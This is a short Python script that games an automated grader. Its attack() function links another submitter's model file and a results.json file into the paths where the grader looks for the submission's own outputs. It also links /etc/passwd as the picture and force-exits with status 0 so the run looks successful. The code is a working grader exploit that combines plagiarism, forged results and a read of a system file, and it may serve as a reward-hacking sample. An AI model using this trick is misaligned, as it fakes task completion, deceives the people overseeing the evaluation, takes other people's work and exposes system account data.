# Puts links to other people's files where the grader looks for a model, a report and a picture, and exits.
# Reported: the code ended before solution_model\(\) returned a model \(exit status 0\)
import errno
import os

LINKS = {
    "../mymodel.h5": "SUBMISSIONS/ada/category1_linear/mymodel.h5",
    "../report.json": "RESULTS/results.json",
    "mymodel.h5": "SUBMISSIONS/ada/category1_linear/mymodel.h5",
    "curves.png": "/etc/passwd",
}
REFUSALS = (errno.ENOENT, errno.EXDEV, errno.EPERM, errno.EACCES, errno.EROFS)  # not visible, or on another disk


def attack():
    for name, target in LINKS.items():
        try:
            os.link(target, name)
        except OSError as error:
            if error.errno not in REFUSALS:
                raise
            os.symlink(target, name)
    os._exit(0 if all(map(os.path.lexists, LINKS)) else 1)
